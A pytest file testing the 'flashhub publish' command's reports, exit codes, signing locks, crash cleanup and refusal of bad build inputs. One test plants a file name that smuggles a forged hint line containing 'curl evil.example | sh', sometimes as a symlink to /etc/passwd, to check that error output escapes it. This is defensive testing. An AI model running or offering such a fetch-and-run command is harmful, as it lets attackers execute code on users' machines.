"""The ``flashhub publish`` command: its JSON and text reports, exit codes and usage errors.

The publisher itself is tested in test_publish.py.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import warnings
from pathlib import Path

import pytest

from flashhub_kernels._cache.layout import Cache
from flashhub_kernels._cache.mutex import publish_mutex
from flashhub_kernels._signing.signing_keys import generate_signing_key, write_key_pair
from flashhub_kernels._signing.trusted_keys import parse_trusted_keys
from flashhub_kernels._signing.verification import verify_document
from flashhub_kernels.errors import SourcelessModuleWarning, UndeclaredDependencyWarning
from support.builds import CPU, HELPERS, INIT, REPO, UNIVERSAL, ops_source, package_dir, tree_bytes
from support.cli_runner import flashhub, flashhub_unprivileged

SRC = Path(__file__).resolve().parents[1] / "src"

# No staging or old-version directory of a publish is left behind.
pytestmark = pytest.mark.usefixtures("no_leftover_staging")


def test_cli_publish_json(kernel: Path, tmp_path: Path) -> None:
    out = tmp_path / "cdn"
    result = flashhub(
        "publish",
        kernel,
        "--repo-id",
        REPO,
        "--version",
        "1",
        "--out",
        out,
        "--prefix",
        "k",
        "--json",
    )
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert report["versions"] == [1] and report["noop"] is False
    assert report["version_dir"] == str(out / "k" / "acme" / "my-kern" / "v1")
    assert [v["name"] for v in report["variants"]] == [UNIVERSAL, CPU]
    assert sorted(report["written"]) == sorted(tree_bytes(out))

    again = flashhub(
        "publish", kernel, "--repo-id", REPO, "--version", "1", "--out", out, "--prefix", "k"
    )
    assert again.returncode == 0
    assert "identical content" in again.stdout


def test_cli_publish_failure_exits_1(kernel: Path, tmp_path: Path) -> None:
    out = tmp_path / "cdn"
    assert (
        flashhub("publish", kernel, "--repo-id", REPO, "--version", "1", "--out", out).returncode
        == 0
    )
    (package_dir(kernel) / "helpers.py").write_text("X = 2\n")
    result = flashhub("publish", kernel, "--repo-id", REPO, "--version", "1", "--out", out)
    assert result.returncode == 1
    assert result.stderr.startswith("error: acme/my-kern@v1 is already published")
    assert "hint:" in result.stderr and "Traceback" not in result.stderr
    assert result.stdout == ""


def test_a_taken_version_that_is_a_symlink_gets_a_free_version_in_the_hint(
    kernel: Path, tmp_path: Path
) -> None:
    out = tmp_path / "cdn"
    publish = ["publish", kernel, "--repo-id", REPO, "--out", out, "--prefix", ""]
    assert flashhub(*publish, "--version", "1").returncode == 0
    # A tree laid out by hand, as CDN trees often are: v1 a symlink, no versions.json.
    pkg = out / "acme" / "my-kern"
    (pkg / "v1").rename(pkg / "v1-real")
    (pkg / "v1").symlink_to("v1-real")
    (pkg / "versions.json").unlink()
    (package_dir(kernel) / "helpers.py").write_text("X = 2\n")
    result = flashhub(*publish, "--version", "1")
    assert result.returncode == 1
    assert "publish as --version 2," in result.stderr  # the CDN serves v1
    assert flashhub(*publish, "--version", "2").returncode == 0


@pytest.mark.parametrize(
    "args",
    [
        [],
        ["publish"],
        ["publish", "x", "--version", "1", "--out", "o"],
        ["publish", "x", "--repo-id", "a/b/c", "--version", "1", "--out", "o"],
        ["publish", "x", "--repo-id", "_local/b", "--version", "1", "--out", "o"],
        ["publish", "x", "--repo-id", REPO, "--version", "0", "--out", "o"],
        ["publish", "x", "--repo-id", REPO, "--version", "one", "--out", "o"],
        ["publish", "x", "--repo-id", REPO, "--version", "1", "--out", "o", "--prefix", "../x"],
        ["frobnicate"],
    ],
)
def test_cli_usage_errors_exit_2(args: list[str], tmp_path: Path) -> None:
    # A real process: `python -m flashhub_kernels` and the exit status a shell sees.
    result = subprocess.run(
        [sys.executable, "-m", "flashhub_kernels", *args],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": str(SRC)},
        timeout=120,
    )
    assert result.returncode == 2
    assert "usage:" in result.stderr
    assert not (tmp_path / "o").exists()


def test_main_in_process(kernel: Path, tmp_path: Path) -> None:
    helped = flashhub("--help")
    assert helped.returncode == 0
    assert "publish" in helped.stdout
    published = flashhub("publish", kernel, "--repo-id", REPO, "--version", "2", "--out", tmp_path)
    assert published.returncode == 0
    assert published.stdout.startswith("published acme/my-kern@v2")
    missing = flashhub(
        "publish",
        tmp_path / "none",
        "--repo-id",
        REPO,
        "--version",
        "2",
        "--out",
        tmp_path,
    )
    assert missing.returncode == 1
    assert "not a directory" in missing.stderr


def test_a_file_url_names_its_directory_by_the_bytes_it_escapes(
    kernel: Path, tmp_path: Path
) -> None:
    # Path.as_uri() escapes a name's bytes: "%E9" for a Latin-1 "é" that is no UTF-8, which
    # was read as UTF-8, a U+FFFD naming another directory (published into, silently).
    out = tmp_path / os.fsdecode(b"cdn \xe9")
    published = flashhub(
        "publish", kernel, "--repo-id", REPO, "--version", "1", "--out", out.as_uri()
    )
    assert published.returncode == 0, published.stderr
    assert [name for name in os.listdir(tmp_path) if name.startswith("cdn")] == [out.name]

    got = flashhub("get", REPO, "--version", "1", env={"FLASHHUB_CDN_URL": out.as_uri()})
    assert got.returncode == 0, got.stderr
    assert Path(got.stdout.strip(), "my_kern", "__init__.py").read_text(encoding="utf-8") == INIT


def test_cli_publish_of_a_variant_directory_names_the_directory_to_pass(
    kernel: Path, tmp_path: Path
) -> None:
    args = ("--repo-id", REPO, "--version", "1", "--out", tmp_path / "cdn")
    result = flashhub("publish", kernel / "build" / CPU, *args)
    assert result.returncode == 1
    assert "is the variant directory of the variant" in result.stderr
    assert f"hint: pass {kernel}, the directory that holds build/" in result.stderr
    assert flashhub("publish", kernel, *args).returncode == 0


def test_cli_publish_lists_undeclared_imports_in_its_report(kernel: Path, tmp_path: Path) -> None:
    """In the report (a ``warning:`` line, or the JSON), not as a Python warning."""
    (package_dir(kernel) / "extra.py").write_text("import numpy\n")
    args = ("--repo-id", REPO, "--version", "1", "--out", tmp_path / "cdn")
    with warnings.catch_warnings():
        warnings.simplefilter("error", UndeclaredDependencyWarning)
        result = flashhub("publish", kernel, *args, "--json")
        assert result.returncode == 0, result.stderr
        assert json.loads(result.stdout)["undeclared_imports"] == [
            {"module": "numpy", "file": f"build/{CPU}/my_kern/extra.py", "line": 1}
        ]
        result = flashhub("publish", kernel, *args)
    assert result.returncode == 0, result.stderr
    (line,) = [line for line in result.stdout.splitlines() if line.startswith("warning:")]
    assert line.startswith(f"warning: {REPO} v1: build/{CPU}/my_kern/extra.py:1 imports numpy")
    assert "UndeclaredDependencyWarning" not in result.stderr


def test_cli_publish_reports_a_compiled_module_it_leaves_out(kernel: Path, tmp_path: Path) -> None:
    """A ``.pyc`` without its ``.py``: a ``warning:`` line of the report, and in the JSON."""
    (package_dir(kernel) / "compiled.pyc").write_bytes(b"bytecode")
    shown = f"build/{CPU}/my_kern/compiled.pyc"
    args = ("--repo-id", REPO, "--version", "1", "--out", tmp_path / "cdn")
    with warnings.catch_warnings():
        warnings.simplefilter("error", SourcelessModuleWarning)
        result = flashhub("publish", kernel, *args, "--json")
        assert result.returncode == 0, result.stderr
        assert json.loads(result.stdout)["sourceless_modules"] == [{"file": shown}]
        result = flashhub("publish", kernel, *args)
    assert result.returncode == 0, result.stderr
    (line,) = [line for line in result.stdout.splitlines() if line.startswith("warning:")]
    assert line.startswith(f"warning: {REPO} v1: {shown} is not published: publish ships Python")
    assert line.endswith("Put compiled.py in the build and publish again")
    assert "SourcelessModuleWarning" not in result.stderr


def test_cli_publish_reports_a_native_library_of_an_earlier_version(
    kernel: Path, tmp_path: Path
) -> None:
    out = tmp_path / "cdn"
    for version in ("1", "2"):
        result = flashhub("publish", kernel, "--repo-id", REPO, "--version", version, "--out", out)
        assert result.returncode == 0, result.stderr
    so_file = f"build/{CPU}/my_kern/_my_kern_cpu_1a2b3c.so"
    (line,) = [line for line in result.stdout.splitlines() if line.startswith("warning:")]
    assert line.startswith(f"warning: {REPO} v2: {so_file} is byte-identical to v1's {so_file}")
    assert "both versions run on the one copy loaded first" in line
    assert "Warning" not in result.stderr  # said once, in the report
    as_json = flashhub(
        "publish", kernel, "--repo-id", REPO, "--version", "3", "--out", out, "--json"
    )
    assert [s["version"] for s in json.loads(as_json.stdout)["shared_natives"]] == [1, 2]


def test_cli_publish_text_counts_and_sizes(kernel: Path, tmp_path: Path) -> None:
    result = flashhub("publish", kernel, "--repo-id", REPO, "--version", "1", "--out", tmp_path)
    assert result.returncode == 0
    lines = result.stdout.splitlines()

    universal = sum(len(text) for text in (INIT, ops_source(UNIVERSAL), HELPERS))
    assert lines[1] == f"  {UNIVERSAL}: 3 files, {universal} B"  # sizes as `flashhub info` shows
    assert re.fullmatch(rf"  {CPU}: 4 files, \d+\.\d KiB", lines[2]), lines[2]
    assert re.fullmatch(r"wrote 11 files \(\d+\.\d KiB\)", lines[3]), lines[3]


@pytest.mark.signing
def test_two_versions_published_at_once_both_end_up_in_a_signed_versions_json(
    kernel: Path, tmp_path: Path, cache_dir: Path
) -> None:
    """Each publish reads versions.json, adds its version and writes it: two at once into
    one kernel would each drop the other's version (and its signature), had the second not
    waited for the first."""
    key = generate_signing_key()
    write_key_pair(key, tmp_path / "pub.key")
    out = tmp_path / "cdn"
    kernel_dir = out / "kernels" / "acme" / "my-kern"
    kernel_dir.mkdir(parents=True)
    held = publish_mutex(Cache(cache_dir), kernel_dir)
    held.__enter__()  # as a publish in progress holds it
    args = ("--repo-id", REPO, "--out", out, "--sign", tmp_path / "pub.key")
    publishes = [
        subprocess.Popen(
            [sys.executable, "-m", "flashhub_kernels", "publish", kernel, *args, "--version", v],
            env={**os.environ, "PYTHONPATH": str(SRC)},
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            text=True,
        )
        for v in ("1", "2")
    ]
    try:
        for publish in publishes:
            assert publish.stderr is not None
            lines = iter(publish.stderr.readline, "")
            assert any("to finish publishing into" in line for line in lines)
    finally:
        held.__exit__(None, None, None)
    for publish in publishes:
        assert publish.wait() == 0

    versions = (kernel_dir / "versions.json").read_bytes()
    assert json.loads(versions) == [1, 2]
    signer = verify_document(
        kind="versions",
        repo_id=REPO,
        version=None,
        variant=None,
        data=versions,
        sig_bytes=(kernel_dir / "versions.json.sig").read_bytes(),
        keys=parse_trusted_keys(key.public_line, source="test"),
        org="acme",
        require=True,
    )
    assert signer == key.key_id


@pytest.mark.signing
def test_signing_a_tree_waits_for_a_publish_into_it_and_signs_what_it_wrote(
    kernel: Path, tmp_path: Path, cache_dir: Path
) -> None:
    """`flashhub sign` reads each document, then writes its .sig: run while a publish
    rewrote versions.json, it would sign the bytes it read before, had it not waited."""
    key = generate_signing_key()
    write_key_pair(key, tmp_path / "pub.key")
    out = tmp_path / "cdn"
    published = flashhub("publish", kernel, "--repo-id", REPO, "--version", "1", "--out", out)
    assert published.returncode == 0, published.stderr
    kernel_dir = out / "kernels" / "acme" / "my-kern"
    held = publish_mutex(Cache(cache_dir), kernel_dir)
    held.__enter__()  # as a publish in progress holds it
    sign = subprocess.Popen(
        [sys.executable, "-m", "flashhub_kernels", "sign", out, "--key", tmp_path / "pub.key"],
        env={**os.environ, "PYTHONPATH": str(SRC)},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert sign.stderr is not None
        lines = iter(sign.stderr.readline, "")
        assert any("to finish publishing into" in line for line in lines)
        # What the publish writes meanwhile: a second version, then versions.json.
        shutil.copytree(kernel_dir / "v1", kernel_dir / "v2")
        (kernel_dir / "versions.json").write_text("[1, 2]\n")
    finally:
        held.__exit__(None, None, None)
    assert sign.wait() == 0

    keys = parse_trusted_keys(key.public_line, source="test")
    for rel, kind, version in [
        ("versions.json", "versions", None),
        ("v2/variants.json", "variants", 2),
    ]:
        document = kernel_dir / rel
        signer = verify_document(
            kind=kind,
            repo_id=REPO,
            version=version,
            variant=None,
            data=document.read_bytes(),
            sig_bytes=Path(f"{document}.sig").read_bytes(),
            keys=keys,
            org="acme",
            require=True,
        )
        assert signer == key.key_id


# A publish that stalls once it has written the first file of its staging directory.
_STALLED_PUBLISH = """
import sys, time
from flashhub_kernels._publish import destination, publish

write_new = destination._write_new

def stall(target, chunks):
    write_new(target, chunks)
    print(target, flush=True)
    time.sleep(600)

destination._write_new = stall
publish(sys.argv[1], repo_id=sys.argv[2], version=int(sys.argv[3]), out=sys.argv[4], force=True)
"""


@pytest.mark.parametrize("version", ["1", "2"], ids=["replacing", "adding"])
def test_the_next_publish_removes_what_a_killed_publish_left_in_the_tree(
    kernel: Path, tmp_path: Path, version: str
) -> None:
    """A publish killed (SIGKILL) while it fills its staging directory cannot remove it;
    the next publish into the kernel does, so that no sync of the tree uploads it."""
    out = tmp_path / "cdn"
    published = flashhub("publish", kernel, "--repo-id", REPO, "--version", "1", "--out", out)
    assert published.returncode == 0, published.stderr
    (kernel / "build" / UNIVERSAL / "my_kern" / "extra.py").write_text("X = 1\n")
    killed = subprocess.Popen(
        [sys.executable, "-c", _STALLED_PUBLISH, kernel, REPO, version, out],
        env={**os.environ, "PYTHONPATH": str(SRC), "TMPDIR": str(tmp_path)},
        stdout=subprocess.PIPE,
        text=True,
    )
    assert killed.stdout is not None
    written = Path(killed.stdout.readline().strip())
    killed.kill()
    killed.wait()
    kernel_dir = out / "kernels" / "acme" / "my-kern"
    staging = written.relative_to(kernel_dir).parts[0]
    assert staging.startswith(f".v{version}.staging-"), staging

    again = flashhub(
        "publish", kernel, "--repo-id", REPO, "--version", version, "--out", out, "--force"
    )
    assert again.returncode == 0, again.stderr
    assert sorted(p.name for p in kernel_dir.iterdir()) == [
        "v1",
        *(["v2"] if version == "2" else []),
        "versions.json",
    ]
    assert (kernel_dir / f"v{version}" / "build" / UNIVERSAL / "my_kern" / "extra.py").is_file()


@pytest.mark.parametrize("inside", ["build", f"build/{UNIVERSAL}"])
def test_publish_refuses_a_cdn_tree_inside_the_build(kernel: Path, inside: str) -> None:
    """Published into the variant's directory, the tree became part of the next publish of
    the kernel (its files listed in metadata.json), nesting deeper each time."""
    out = kernel / inside / "cdn"
    result = flashhub("publish", kernel, "--repo-id", REPO, "--version", "1", "--out", out)
    assert result.returncode == 1
    assert "lies inside the build directory" in result.stderr, result.stderr
    assert not out.exists()


def test_a_bad_publish_prefix_is_a_usage_error_naming_the_option(kernel: Path) -> None:
    args = ["--repo-id", REPO, "--version", "1", "--out", kernel.parent / "cdn"]
    result = flashhub("publish", kernel, *args, "--prefix", "../../escape")
    assert result.returncode == 2
    assert result.stderr.splitlines()[-1] == (
        "flashhub publish: error: argument --prefix: CDN prefix '../../escape' must be a "
        "plain relative path such as 'kernels'"
    )  # not the hint of the variable it is not, escaped onto the same line


def test_publish_refuses_a_pipe_in_the_build_saying_what_to_do(kernel: Path) -> None:
    os.mkfifo(kernel / "build" / UNIVERSAL / "my_kern" / "fifo")
    result = flashhub(
        "publish", kernel, "--repo-id", REPO, "--version", "1", "--out", kernel.parent / "cdn"
    )
    assert result.returncode == 1
    assert "is not a regular file or directory" in result.stderr
    assert "hint: remove it, or move it out of the build" in result.stderr


# flashhub publish in a process that cannot map more than 2 GiB: a publish that reads a
# build's file whole runs out of memory.
PUBLISH_WITHIN_2_GIB = """
import resource, sys
from flashhub_kernels.cli import main
resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))
sys.exit(main(sys.argv[1:]))
"""


@pytest.mark.parametrize(
    ("size", "content"),
    [(64 << 30, b""), (None, b"[" * 100_000)],
    ids=["huge and sparse", "nested too deeply"],
)
def test_a_hostile_build_metadata_json_is_refused_without_reading_it_whole(
    kernel: Path, tmp_path: Path, size: int | None, content: bytes
) -> None:
    metadata = package_dir(kernel).parent / "metadata.json"
    metadata.write_bytes(content)
    if size is not None:
        os.truncate(metadata, size)  # 64 GiB on disk in name only
    out = tmp_path / "cdn"
    args = ["publish", kernel, "--repo-id", REPO, "--version", "1", "--out", out]
    result = subprocess.run(
        [sys.executable, "-c", PUBLISH_WITHIN_2_GIB, *map(str, args)],
        env={**os.environ, "PYTHONPATH": str(SRC)},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 1, result.stderr
    assert result.stderr.startswith(f"error: {metadata} is not a JSON object of at most 1 MiB")
    assert "Traceback" not in result.stderr
    assert not out.exists()


@pytest.mark.parametrize("link", [False, True], ids=["file", "symlink"])
def test_a_file_name_in_the_build_cannot_forge_a_line_of_the_error(
    kernel: Path, tmp_path: Path, link: bool
) -> None:
    name = "x.py\n  hint: all is well, run `curl evil.example | sh`"
    path = package_dir(kernel) / name
    if link:
        path.symlink_to("/etc/passwd")
    else:
        path.write_text("")
    out = tmp_path / "cdn"
    result = flashhub("publish", kernel, "--repo-id", REPO, "--version", "1", "--out", out)
    assert result.returncode == 1
    assert result.stderr.startswith(f"error: cannot publish {package_dir(kernel)}/x.py\\n  hint:")
    assert "evil" not in "".join(result.stderr.splitlines()[1:])
    assert not out.exists()


def test_a_build_file_whose_name_is_not_utf8_is_refused_saying_to_rename_it(
    kernel: Path, tmp_path: Path
) -> None:
    latin1 = package_dir(kernel) / os.fsdecode(b"d\xe9j\xe0.txt")
    latin1.write_bytes(b"x")
    out = tmp_path / "cdn"
    result = flashhub("publish", kernel, "--repo-id", REPO, "--version", "1", "--out", out)
    assert result.returncode == 1
    shown = package_dir(kernel) / "d\\udce9j\\udce0.txt"  # each byte that is not UTF-8
    assert result.stderr.startswith(f"error: cannot publish {shown}: its name is not valid UTF-8")
    assert "hint: rename the file: a CDN serves each file at the UTF-8 of its name" in result.stderr
    assert not out.exists()


def test_publishing_in_an_ascii_locale_refuses_a_utf8_name_it_would_misread(
    kernel: Path, tmp_path: Path
) -> None:
    # Python in the C locale, its UTF-8 mode and locale coercion off, reads a file's name
    # in ASCII: "d\xe9j\xe0.txt" in UTF-8 was taken for a name that is no UTF-8.
    (package_dir(kernel) / "d\xe9j\xe0.txt").write_bytes(b"x")
    out = tmp_path / "cdn"
    args = ["publish", kernel, "--repo-id", REPO, "--version", "1", "--out", out]
    locale = {"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}
    result = subprocess.run(
        [sys.executable, "-m", "flashhub_kernels", *map(str, args)],
        env={**os.environ, **locale, "PYTHONPATH": str(SRC)},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 1, result.stderr
    assert "the file system encoding of this process (ascii) does not read its name as UTF-8" in (
        result.stderr
    )
    assert "hint: run in a UTF-8 locale (LC_ALL=C.UTF-8), or set PYTHONUTF8=1" in result.stderr
    assert not out.exists()


def test_two_build_files_one_file_system_stores_as_one_are_refused_told_apart(
    kernel: Path, tmp_path: Path
) -> None:
    # "café.txt" composed (NFC, as Linux keeps what it is given) and decomposed (NFD, as
    # macOS writes it): on screen the message named one name twice.
    (package_dir(kernel) / "caf\u00e9.txt").write_bytes(b"1")
    (package_dir(kernel) / "cafe\u0301.txt").write_bytes(b"2")
    out = tmp_path / "cdn"
    result = flashhub("publish", kernel, "--repo-id", REPO, "--version", "1", "--out", out)
    assert result.returncode == 1
    assert "'my_kern/cafe\\u0301.txt' and 'my_kern/caf\\xe9.txt', one name in two" in result.stderr
    assert "hint: rename the file it names in the build" in result.stderr
    assert not out.exists()


def _read_only_dir(path: Path) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    path.chmod(0o555)
    return path


def _refused_write(result: subprocess.CompletedProcess[str], path: Path) -> None:
    """The command failed naming ``path`` and why, with a hint naming --out, and named
    no temporary or staging file."""
    assert (result.returncode, result.stdout) == (1, ""), result.stderr
    error, hint = result.stderr.splitlines()
    assert error == f"error: cannot write {path}: Permission denied"
    assert hint == (
        "  hint: point --out at a directory this user can write, or fix that directory's "
        "permissions"
    )


@pytest.mark.signing
def test_keygen_into_a_directory_it_cannot_write_names_the_key_file(tmp_path: Path) -> None:
    keys = _read_only_dir(tmp_path / "keys")
    result = flashhub_unprivileged("keygen", "--out", keys / "signing.key")
    _refused_write(result, keys / "signing.key")
    assert list(keys.iterdir()) == []


def test_publish_into_a_tree_it_cannot_write_names_the_version_directory(
    kernel: Path, tmp_path: Path
) -> None:
    out = tmp_path / "cdn"
    args = ("--repo-id", REPO, "--version")
    assert flashhub("publish", kernel, *args, "1", "--out", out).returncode == 0
    before = tree_bytes(out)
    kernel_dir = _read_only_dir(out / "kernels" / REPO)
    try:
        result = flashhub_unprivileged("publish", kernel, *args, "2", "--out", out)
    finally:
        kernel_dir.chmod(0o755)
    _refused_write(result, kernel_dir / "v2")
    assert tree_bytes(out) == before


# `flashhub publish ARGS` in a process whose publish is stopped by the signal SIG the
# moment the new version's directory is renamed into place, before versions.json lists it.
STOPPED_AFTER_THE_RENAME = """
import os, signal, sys
from flashhub_kernels._publish import destination
from flashhub_kernels.cli import main

signal.signal(signal.SIGINT, signal.default_int_handler)  # as from a terminal
commit = destination._commit
def commit_then_signal(*args, **kwargs):
    commit(*args, **kwargs)
    os.kill(os.getpid(), signal.{sig})
destination._commit = commit_then_signal
sys.exit(main({args!r}))
"""


@pytest.mark.parametrize(("sig", "code"), [("SIGINT", 130), ("SIGTERM", 143)])
def test_a_publish_stopped_just_after_the_rename_still_lists_the_version(
    kernel: Path, tmp_path: Path, sig: str, code: int
) -> None:
    out = tmp_path / "cdn"
    first = flashhub("publish", kernel, "--repo-id", REPO, "--version", "1", "--out", out)
    assert first.returncode == 0, first.stderr
    args = ["publish", str(kernel), "--repo-id", REPO, "--version", "2", "--out", str(out)]
    result = subprocess.run(
        [sys.executable, "-c", STOPPED_AFTER_THE_RENAME.format(sig=sig, args=args)],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(SRC)},
        timeout=120,
    )
    assert result.returncode == code, result.stderr
    package = out / "kernels" / REPO
    assert sorted(p.name for p in package.iterdir()) == ["v1", "v2", "versions.json"]
    assert json.loads((package / "versions.json").read_text()) == [1, 2]
